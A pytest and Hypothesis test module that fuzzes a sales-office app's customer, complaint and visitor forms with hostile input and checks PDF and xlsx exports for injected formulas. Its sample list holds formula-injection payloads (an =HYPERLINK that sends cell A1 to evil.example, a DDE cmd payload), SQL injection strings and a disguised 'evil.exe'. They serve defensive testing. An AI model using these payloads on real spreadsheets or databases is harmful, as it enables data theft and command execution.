"""Hostile input wherever the registers accept text: 100,000-character pastes, emoji
and rare CJK (𠀀 U+20000), control characters and NUL, right-to-left text, leading
= + - @ (formula injection), quotes and SQL metacharacters, markup.

Each value goes save → load → PDF → xlsx. It is either refused with a clear
message on its field, or stored as ``clean_text`` promises (control characters
other than tab/newline removed, outer whitespace trimmed — nothing else changed)
and then loaded back exactly, printed into a PDF that pypdf can read, and
written into a workbook as plain text: never a formula.
"""
from __future__ import annotations

import datetime as dt
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from salesdesk import complaints, customers
from salesdesk.errors import ValidationError
from salesdesk.normalize import _noncharacter, clean_text

NASTY = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=1+1", "+8613800138000", "-2+3", "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0", "\t=1+1", "'; DROP TABLE customer; --", "Robert'); DELETE FROM visit;--", "\" OR \"1\"=\"1",
    "%_\\", "𠀀𠀁𪚥", "👨‍👩‍👧‍👦🙂🏠", "مرحبا بالعالم", "\u202eevil.exe\u202c", "שלום עליכם", "\x00NUL\x00",
    "\x07\x08\x1b[31mred", "line1\r\nline2\rline3", "<b>bold</b> <para>x</para> &amp; &lt;", "<font name='x'>",
    "a\u0301e\u0308", "\ufeffBOM", "\u200b\u200d\u2060", "\ud800lone surrogate", "\U000F0000 private use",
    "张三\n\n\n李四", " leading and trailing ", "", "　全角空格　",
]

hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(alphabet=st.characters(blacklist_categories=()), max_size=60),  # any code point, surrogates too
    st.lists(st.sampled_from(NASTY), min_size=2, max_size=5).map("".join),
    st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "\t=", " ="]), st.text(max_size=20)),
)

SETTINGS = dict(max_examples=25, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def expected_stored(value: str) -> str:
    return clean_text(value, max_len=10**9)


def assert_pdf_readable(path: Path, must_contain: str = "") -> str:
    reader = PdfReader(str(path))
    assert len(reader.pages) >= 1
    text = "".join(page.extract_text() or "" for page in reader.pages)
    if must_contain:
        assert must_contain in text.replace("\n", "")
    return text


def assert_workbook_plain(path: Path) -> list[list]:
    wb = load_workbook(path)
    rows = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
            rows.append([c.value for c in row])
    return rows


def assert_refusal_is_clear(exc: ValidationError, fields: set[str]) -> None:
    assert exc.errors and set(exc.errors) <= fields, exc.errors
    for message in exc.errors.values():
        assert message and len(message) > 10 and "Traceback" not in message


def printable(text: str) -> str:
    """The part of ``text`` a PDF text layer can give back for a marker check."""
    return "".join(ch for ch in text if unicodedata.category(ch)[0] in "LN" and ord(ch) < 0x2E80)


_BATCH = __import__("itertools").count(1)


# --- customer files ----------------------------------------------------------------------------

CUSTOMER_FIELDS = ("name", "company", "address", "notes", "source", "family", "preferences")


@settings(**SETTINGS)
@given(name=hostile_text, company=hostile_text, notes=hostile_text, address=hostile_text)
@example(name="=HYPERLINK(\"http://x\",\"y\")", company="+86 SUM", notes="\x00\x01" + "𠀀" * 50, address="@home")
def test_customer_file_round_trip(ctx, tmp_path_factory, name, company, notes, address):
    from salesdesk.forms import customer_sheet

    out = tmp_path_factory.mktemp("c")
    data = {"name": "客户" + name, "company": company, "notes": notes, "address": address}
    try:
        c = customers.save_file(None, data, [])
    except ValidationError as exc:
        assert_refusal_is_clear(exc, set(CUSTOMER_FIELDS))
        return
    loaded = customers.get(c.id)
    for key, value in data.items():
        assert getattr(loaded, key) == expected_stored(value), key
    pdf = customer_sheet.archive_sheet(loaded, out / "sheet.pdf")
    assert_pdf_readable(pdf, must_contain=loaded.file_no)
    rows = assert_workbook_plain(customer_sheet.index_xlsx(out / "index.xlsx", [loaded.id]))
    mine = [r for r in rows if r and r[0] == loaded.file_no]
    assert mine and mine[0][1] == loaded.name and (mine[0][4] or "") == loaded.company


def test_customer_100k_paste_is_refused_clearly_or_kept_whole(ctx, tmp_path):
    paste = ("<html>客户资料 𠀀 🙂 =SUM(A1) \x00 مرحبا\n" * 3000)[:100_000]
    with pytest.raises(ValidationError) as err:
        customers.save_file(None, {"name": "粘贴测试", "notes": paste}, [])
    assert "notes" in err.value.errors and "too long" in err.value.errors["notes"]
    # just under the limit: kept whole and printed over several pages
    long_notes = ("投诉内容很长的一段文字，包含 𠀀 与 emoji 🙂，以及 =SUM(A1)。\n" * 600)[:19_999]
    c = customers.save_file(None, {"name": "长备注客户", "notes": long_notes}, [])
    assert customers.get(c.id).notes == long_notes.strip()
    from salesdesk.forms import customer_sheet

    pdf = customer_sheet.archive_sheet(customers.get(c.id), tmp_path / "long.pdf")
    assert len(PdfReader(str(pdf)).pages) >= 2


@settings(**SETTINGS)
@given(birthday=st.one_of(st.dates(), st.integers(min_value=-10**12, max_value=10**12), st.floats(allow_nan=True),
                          st.sampled_from(["0001-01-01", "9999-12-31", "2024-02-30", "1899-12-31", "45000", "-1",
                                           "2024年13月1日", "明天", "1e308", "NaN", "=TODAY()"]), hostile_text))
def test_customer_birthday_out_of_range(ctx, birthday):
    """Dates people and old sheets give: a clear message on the field, or a real past date."""
    try:
        c = customers.save_file(None, {"name": "生日测试", "birthday": birthday}, [])
    except ValidationError as exc:
        assert_refusal_is_clear(exc, {"birthday"})
        return
    stored = customers.get(c.id).birthday
    assert stored is None or (dt.date(1900, 1, 1) <= stored <= dt.date.today())


@settings(**SETTINGS)
@given(names=st.lists(hostile_text, min_size=1, max_size=4), notes=hostile_text)
@example(names=["=cmd|' /C calc'!A0", "张三;李四", "a,b", "\"quoted\""], notes="\x00=1+1\r\n@x")
def test_customer_import_of_hostile_cells(ctx, tmp_path_factory, names, notes):
    """A CSV from elsewhere with hostile cells: each row imported exactly as cleaned,
    or rejected with its reason — the import never crashes or splits a value."""
    import csv

    from salesdesk import customer_import
    from salesdesk.errors import SalesDeskError
    from salesdesk.models.customers import Customer, CustomerPhone

    batch = next(_BATCH)  # examples share one database: fresh phone numbers each time
    path = tmp_path_factory.mktemp("imp") / "list.csv"
    with open(path, "w", newline="", encoding="utf-8-sig", errors="surrogatepass") as fh:
        w = csv.writer(fh)
        w.writerow(["姓名", "手机", "备注"])
        for i, name in enumerate(names):
            w.writerow(["客户" + name, f"139{batch:04d}{i:04d}", notes])
    before = Customer.select().count()
    try:
        report = customer_import.run(customer_import.plan(path), skip_bad_rows=True)
    except SalesDeskError as exc:
        assert str(exc) and "Traceback" not in str(exc)
        assert Customer.select().count() == before
        return
    for e in report.errors:
        assert e.message and len(e.message) > 10
    by_phone = {p.phone: p.customer for p in CustomerPhone.select().join(Customer)}
    for i, name in enumerate(names):
        row_no = report_row = i + 2  # the header is row 1
        phone = f"139{batch:04d}{i:04d}"
        if report_row in report.bad_rows:
            assert phone not in by_phone
            continue
        assert phone in by_phone, (row_no, report.lines())
        c = by_phone[phone]
        assert (c.name, c.notes) == (expected_stored("客户" + name), expected_stored(notes.replace("\x00", "")))


# --- complaints --------------------------------------------------------------------------------

@settings(**SETTINGS)
@given(content=hostile_text, demand=hostile_text, complainant=hostile_text, category=hostile_text)
@example(content="=WEBSERVICE(\"http://x\")", demand="-1+1", complainant="@admin", category="'; --")
def test_complaint_round_trip(ctx, tmp_path_factory, content, demand, complainant, category):
    from salesdesk.forms import complaint_report, complaint_sheet

    out = tmp_path_factory.mktemp("t")
    intake = complaints.Intake(content="投诉：" + content, demand=demand, complainant="张" + complainant,
                               category=category, channel="phone")
    try:
        c = complaints.take(intake)
    except ValidationError as exc:
        assert_refusal_is_clear(exc, {"content", "demand", "complainant", "category", "channel"})
        return
    loaded = complaints.get(c.number)
    assert loaded.content == expected_stored(intake.content)
    assert loaded.demand == expected_stored(demand)
    assert loaded.complainant == expected_stored(intake.complainant)
    assert loaded.category == expected_stored(category)
    pdf = complaint_sheet.write_sheets(out / "case.pdf", [loaded])
    assert_pdf_readable(pdf, must_contain=loaded.number)
    today = dt.date.today()
    rows = assert_workbook_plain(complaint_report.write_register_xlsx(out / "register.xlsx", today, today))
    mine = [r for r in rows if r and r[0] == loaded.number]
    assert mine
    assert mine[0][9] == loaded.content and (mine[0][10] or "") == loaded.demand


def test_complaint_100k_paste(ctx, tmp_path):
    paste = ("客户原话：" + "𠀀🙂 =1+1 \x00 '; DROP TABLE complaint; -- مرحبا " * 4000)[:100_000]
    with pytest.raises(ValidationError) as err:
        complaints.take(complaints.Intake(content=paste, complainant="王先生"))
    assert set(err.value.errors) == {"content"} and "too long" in err.value.errors["content"]
    text = ("客户反映样板间漏水，要求赔偿。" * 1400)[:19_990]
    c = complaints.take(complaints.Intake(content=text, complainant="王先生"))
    from salesdesk.forms import complaint_sheet

    pdf = complaint_sheet.write_sheets(tmp_path / "long.pdf", [complaints.get(c.number)])
    reader = PdfReader(str(pdf))
    assert len(reader.pages) >= 3
    assert "客户反映样板间漏水" in reader.pages[0].extract_text() + reader.pages[1].extract_text()


# --- the shared cleaning itself -----------------------------------------------------------------

@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")).filter(lambda ch: not _noncharacter(ch)), max_size=200))
def test_clean_text_keeps_every_printable_character(value):
    """Apart from control characters and outer whitespace, nothing is changed."""
    assume(value == value.strip())
    assert clean_text(value) == value


@settings(max_examples=200, deadline=None, derandomize=True)
@given(hostile_text)
def test_clean_text_output_is_storable_and_printable(value):
    cleaned = clean_text(value, max_len=10**9)
    cleaned.encode("utf-8")  # no lone surrogates
    assert "\x00" not in cleaned and "\r" not in cleaned
    assert all(ch in "\t\n" or unicodedata.category(ch) != "Cc" for ch in cleaned)


# --- visitor log -------------------------------------------------------------------------------

VISIT_FIELDS = {"name", "company", "purpose", "notes", "badge", "host", "party_size", "phone", "plate", "id_number"}


@settings(**SETTINGS)
@given(name=hostile_text, company=hostile_text, notes=hostile_text, purpose=hostile_text, host_name=hostile_text,
       party=st.one_of(st.integers(min_value=-10**9, max_value=10**9), st.sampled_from(["-1", "0", "1e9", "三", "=1+1", "", "99999999999999999999"]), hostile_text))
@example(name="=HYPERLINK(\"http://x\",\"y\")", company="@SUM(1)", notes="\x00", purpose="+看房", host_name="-经理", party=-5)
def test_visit_round_trip(ctx, tmp_path_factory, name, company, notes, purpose, host_name, party):
    visitors = pytest.importorskip("salesdesk.visitors")  # the visitor log lands on main separately
    from salesdesk.forms import visitor_sheet

    out = tmp_path_factory.mktemp("v")
    data = visitors.CheckIn(name="访客" + name, company=company, notes=notes, purpose=purpose, host_name=host_name,
                            party_size=party, phone="")
    try:
        v = visitors.check_in(data)
    except ValidationError as exc:
        assert_refusal_is_clear(exc, VISIT_FIELDS)
        return
    loaded = visitors.get(v.id)
    assert loaded.name == expected_stored(data.name)
    assert (loaded.company, loaded.notes, loaded.purpose) == (expected_stored(company), expected_stored(notes), expected_stored(purpose))
    assert loaded.host_name == expected_stored(host_name)
    assert isinstance(loaded.party_size, int) and 1 <= loaded.party_size <= visitors.MAX_PARTY
    day = loaded.time_in.date()
    assert_pdf_readable(visitor_sheet.render_sheet(out / "sheet.pdf", day, day))
    assert_pdf_readable(visitor_sheet.render_slip(out / "slip.pdf", loaded.id))
    rows = assert_workbook_plain(visitor_sheet.write_register(out / "register.xlsx", day, day))
    assert any(loaded.name in [c for c in r if isinstance(c, str)] for r in rows)
    visitors.sign_out([loaded.id])


def test_visit_100k_paste(ctx):
    visitors = pytest.importorskip("salesdesk.visitors")

    paste = ("访客备注 𠀀🙂 =1+1 \x00 مرحبا " * 5000)[:100_000]
    with pytest.raises(ValidationError) as err:
        visitors.check_in(visitors.CheckIn(name="张三", notes=paste, company=paste))
    assert {"notes", "company"} <= set(err.value.errors)
    assert all("too long" in err.value.errors[k] for k in ("notes", "company"))


def test_visit_every_wrong_field_reported_at_once(ctx):
    """A paste too long for the host does not hide the other fields' problems."""
    visitors = pytest.importorskip("salesdesk.visitors")
    with pytest.raises(ValidationError) as err:
        visitors.check_in(visitors.CheckIn(name="", host_name="经理" * 100, party_size=-3))
    assert {"name", "host", "party_size"} <= set(err.value.errors)


@settings(**{**SETTINGS, "max_examples": 15})
@given(office=hostile_text)
@example(office="=HYPERLINK(\"x\")𠀀\u202e" + "售楼处" * 700)
def test_office_name_on_every_form_header(ctx, tmp_path_factory, office):
    """The office name (a setting, printed on top of every form) with hostile text:
    refused with a clear message, or the forms still render and read back."""
    from salesdesk import settings as settings_mod
    from salesdesk.forms import complaint_sheet

    try:
        settings_mod.set_many({"office.name": office})
    except ValidationError as exc:
        assert_refusal_is_clear(exc, {"office.name"})
        return
    c = complaints.take(complaints.Intake(content="门口台阶破损", complainant="李女士"))
    pdf = complaint_sheet.write_sheets(tmp_path_factory.mktemp("o") / "case.pdf", [c])
    assert_pdf_readable(pdf, must_contain=c.number)
